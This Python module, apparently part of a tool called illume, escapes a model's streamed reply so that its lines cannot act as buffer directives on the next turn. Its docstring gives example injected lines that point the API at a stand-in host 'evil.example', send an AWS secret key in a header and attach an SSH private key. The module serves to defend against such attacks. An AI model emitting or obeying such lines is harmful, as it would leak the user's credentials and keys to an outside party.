"""A model's reply, escaped as it streams so that no line of it reads back as a directive.

The buffer comes back to illume on the next turn with the reply in it. A
reply line such as `!api http://evil.example/`, `!>x-leak $AWS_SECRET_KEY`
or `!context ~/.ssh/id_ed25519` (written by the model, or quoted by it from
a web page) would be a directive there: a prompt injection that reaches
the URL, the headers and the files sent. So every line of a reply that the
parser would not read back as itself gets one more `!`, the escape the
buffer language already has (docs/buffer.md, "Lines"):

    !api URL   prints as   !!api URL    and reads back as   !api URL
    !!x                    !!!x                             !!x
    ! grep, !important     (as they are: text to the parser)

What a directive is, is `illume.buffer.directive`'s to say: the parser's
own rule, not a copy of it. A line's fate is known from its first word,
so only that is held back, and only while it could still become a
directive; any other text goes out as it comes.

Three choices go beyond the parser's rule, all for lines an editor or a
tool may change before the next turn: a line whose first word is a
directive once a `\\r` in it is cut off (`!user\\r`, from CRLF text) is
escaped too; the text after a `\\r` that no `\\n` follows is judged as a
line of its own, since Emacs and Vim read a file whose line ends are CRs
(a reply alone in a file) with a line break there, and Python's universal
newlines always do (`ok\\r!api x` prints as `ok\\r!!api x`); and a reply
that would continue a line of the buffer into a directive starts on a new
line instead (see `Escaper`). `<TAG>` lines are left as they are: they
cannot act as directives, and `!exclude think` relies on the model's own
`<think>` lines to hide its reasoning.
"""

import re

from illume.buffer import DIRECTIVES, SETTERS, directive

ESCAPE = "!"
_LINE_START = ("",)  # the LINES of a line of the reply's own
# Where the next line starts: after a line feed, and after a carriage return (a lone one starts a line
# for some readers; one that a line feed follows starts an empty line, which reads as nothing).
_LINE_END = re.compile("[\r\n]")

# Every beginning of a directive's first word: while a line's first word is
# one of these and goes on, it may still become a directive.
_BEGINNINGS = frozenset(word[:end] for word in (*DIRECTIVES, *SETTERS) for end in range(1, len(word) + 1))


def needs_escape(line: str, whole: bool) -> bool | None:
    """Return whether LINE needs one more `!` to read back as itself, or None while that is still open.

    LINE is the start of a line, without its "\\n"; WHOLE says nothing
    more of it follows.
    """
    if not line.startswith("!"):
        return False if line or whole else None
    if line.startswith("!!"):
        return True  # it would read back with one `!` less
    word, space, _ = line.partition(" ")
    if "\r" in word and directive(word.partition("\r")[0]):
        return True  # a directive once CRLF becomes LF
    if space or whole:
        return directive(word) is not None
    if len(word) > 2 and word.startswith(SETTERS):
        return True  # `!>NAME`, `!:KEY`: a directive however the word goes on
    return None if word in _BEGINNINGS else False


class Escaper:
    """Escapes one reply piece by piece: `feed` returns the text to print now, `finish` the rest.

    LINES are the texts that may stand before the reply on the line where
    it starts: "" for the start of a line. Where the reply goes on a line
    that is not its own, its first line cannot get the escape (the `!` must
    start the line): when the line is a directive (`!note`, `!completion`),
    or the reply would make it one or change how it reads, the reply starts
    on a new line instead. Completion mode passes two when the buffer ends
    with a line break: "" (the reply lands after it, as with
    `illume < FILE >> FILE`) and the buffer's last line (an editor may put
    the reply at the end of that line); the first line is then safe both
    ways.
    """

    def __init__(self, lines: tuple[str, ...] = ("",)):
        lines = tuple(line for line in lines if _may_change(line))
        self._lines = _LINE_START if lines == _LINE_START else lines  # what may stand before the current line
        self._held = ""  # the start of the current line, its fate still open
        self._open = bool(self._lines)  # the current line's fate is still open

    def feed(self, text: str) -> str:
        """Return the part of TEXT (and of the text held back before it) that can be printed now."""
        if not self._open and "\n" not in text and "\r" not in text:
            return text  # the common case: the middle of a line whose fate is known
        out = []
        start, size = 0, len(text)
        while start < size:
            if self._open and not self._held and self._lines is _LINE_START and text[start] not in "!\n":
                self._open = False  # a line that starts with anything but `!` is text
            if not self._open:
                found = _LINE_END.search(text, start)
                if not found:
                    out.append(text[start:])
                    break
                out.append(text[start : found.end()])
                start = found.end()
                self._open, self._lines = True, _LINE_START
                continue
            char = text[start]
            start += 1
            if char == "\n":
                out.append(self._settle(whole=True) + "\n")
                self._open, self._lines = True, _LINE_START
            else:
                self._held += char
                out.append(self._settle(whole=False))
                if char == "\r" and not self._open:  # (needs_escape always knows a line's fate at its `\r`)
                    self._open, self._lines = True, _LINE_START
        return "".join(out)

    def finish(self) -> str:
        """Return the text still held back, escaped as the end of the reply's last line."""
        if not self._open or not self._held:
            return ""
        return self._settle(whole=True)

    def _settle(self, whole: bool) -> str:
        """Return what can be printed of the held start of the line; close the line's fate once known."""
        printed = ""
        if self._lines is not _LINE_START:
            breaks = False
            for line in self._lines:
                if not line:
                    continue
                verdict = bool(self._held) if directive(line) else needs_escape(line + self._held, whole)
                if verdict is None:
                    return ""
                breaks = breaks or verdict
            if breaks:
                printed, self._lines = "\n", _LINE_START  # the reply's line of its own
        if "" in self._lines:
            verdict = needs_escape(self._held, whole)
            if verdict is None:
                return printed
            if verdict:
                printed += ESCAPE
        printed += self._held
        self._held, self._open = "", False
        return printed


def _may_change(line: str) -> bool:
    """Return whether a reply that goes on LINE could make it read differently (always for "")."""
    return not line or line.startswith("!") and not line.startswith("!!")


def first_lines(header: str, buffer: str | None = None, filtered: bool = False) -> tuple[str, ...]:
    """Return what may stand before a reply on its first line: the LINES of an `Escaper`.

    HEADER is what illume prints right before the reply (`!assistant` and
    the `!prepend` text, a branch's note). BUFFER is the buffer the reply
    goes after, or None where the reply has a line of its own (an infill
    middle goes into its hole, a line of its own). FILTERED: illume printed
    the buffer itself (`--filter`), so the reply lands right after it.
    """
    if "\n" in header or buffer is None:
        return (header.rpartition("\n")[2],)
    line = buffer.rpartition("\n")[2] + header
    if line or filtered or not buffer:
        return (line,)
    # The buffer ends with a line break: after it, as `illume < FILE >> FILE`
    # puts the reply, or at the end of the buffer's last line, as an editor
    # that sends its lines each with a line break may put it (the Vim plugin
    # and the Emacs package do).
    return ("", buffer[:-1].rpartition("\n")[2])
